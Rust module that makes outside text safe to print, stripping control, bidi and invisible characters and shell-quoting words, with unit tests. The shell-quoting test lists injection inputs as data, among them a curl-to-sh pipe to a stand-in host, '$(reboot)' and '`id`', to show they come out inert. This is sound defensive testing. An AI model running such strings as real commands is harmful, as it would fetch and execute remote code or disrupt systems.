//! Text from outside (guests, manifests, platforms) made safe to print.

/// One line, control characters (ANSI escapes, newlines) replaced by
/// spaces and the other [hidden](hidden) characters
/// (bidi overrides that reorder what the terminal shows, zero-width ones)
/// removed, at most `max` characters (then `…`). For logs and terminal
/// reports, where foreign text must not forge lines, move the cursor or
/// disguise itself.
pub fn one_line(text: &str, max: usize) -> String {
    let mut shown = text
        .chars()
        .filter(|c| c.is_control() || !hidden(*c))
        .map(|c| if c.is_control() { ' ' } else { c });
    let mut out: String = shown.by_ref().take(max).collect();
    if shown.next().is_some() {
        out.push('…');
    }
    out
}

/// Characters removed from everything the session sees (see `event::sanitize`): controls other than newline and tab, bidi controls, and invisible
/// format characters that can hide or disguise text.
pub(crate) fn hidden(c: char) -> bool {
    matches!(
        c,
        '\u{0}'..='\u{8}'
            | '\u{B}'..='\u{1F}'
            | '\u{7F}'..='\u{9F}'
            | '\u{AD}'
            | '\u{34F}'
            | '\u{61C}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{17B4}'
            | '\u{17B5}'
            | '\u{180E}'
            | '\u{200B}'
            | '\u{200E}'
            | '\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{1BCA0}'..='\u{1BCA3}'
            | '\u{1D173}'..='\u{1D17A}'
            | '\u{E0000}'..='\u{E0FFF}'
    )
}

/// `word` as one shell word that a POSIX shell (sh, bash, zsh) reads back
/// unchanged: bare when it is only characters no shell treats specially,
/// else in single quotes, with each `'` written `'\''`. For commands the CLI
/// suggests that contain foreign text, which the operator may copy and paste.
pub fn shell_quote(word: &str) -> String {
    let bare = |c: char| c.is_ascii_alphanumeric() || "_-.,:/@%+=".contains(c);
    if !word.is_empty() && word.chars().all(bare) && !word.starts_with('=') {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// Take the first complete line (with its `\n`) off the front of `pending`;
/// `None` until one is there. For writers that must pass on whole lines.
pub fn take_line(pending: &mut Vec<u8>) -> Option<Vec<u8>> {
    let end = pending.iter().position(|b| *b == b'\n')?;
    Some(pending.drain(..=end).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_come_off_whole() {
        let mut pending = b"a\nbc\nd".to_vec();
        assert_eq!(take_line(&mut pending), Some(b"a\n".to_vec()));
        assert_eq!(take_line(&mut pending), Some(b"bc\n".to_vec()));
        assert_eq!(take_line(&mut pending), None);
        assert_eq!(pending, b"d");
    }

    #[test]
    fn controls_and_length() {
        assert_eq!(one_line("a\nb\u{1b}[2Jc", 100), "a b [2Jc");
        assert_eq!(one_line("a\u{9b}b\u{202E}c\u{200B}d", 100), "a bcd");
        assert_eq!(one_line("abcdef", 3), "abc…");
        assert_eq!(one_line("abc\u{202E}", 3), "abc");
        assert_eq!(one_line("", 3), "");
    }

    /// Each quoted word, read back by a real `sh`, is the word itself.
    #[test]
    fn shell_quoting() {
        let cases = [
            ("12345", "12345"),
            ("-1001234567890", "-1001234567890"),
            ("user@example.org", "user@example.org"),
            (
                "1; curl -s http://x.example|sh #",
                "'1; curl -s http://x.example|sh #'",
            ),
            ("it's", "'it'\\''s'"),
            ("$(reboot)", "'$(reboot)'"),
            ("`id`", "'`id`'"),
            ("a b", "'a b'"),
            ("~root", "'~root'"),
            ("*", "'*'"),
            ("=cmd", "'=cmd'"),
            ("line\nbreak", "'line\nbreak'"),
            ("", "''"),
            ("'", "''\\'''"),
            ("zoë", "'zoë'"),
        ];
        for (word, want) in cases {
            assert_eq!(shell_quote(word), want, "{word:?}");
        }
        let script: String = cases
            .iter()
            .map(|(word, _)| format!("printf '%s\\0' {}\n", shell_quote(word)))
            .collect();
        let out = std::process::Command::new("sh")
            .args(["-c", &script])
            .output()
            .expect("sh");
        let words: Vec<&str> = cases.iter().map(|(word, _)| *word).collect();
        let back = String::from_utf8(out.stdout).unwrap();
        let back: Vec<&str> = back.split_terminator('\0').collect();
        assert_eq!(back, words);
    }
}
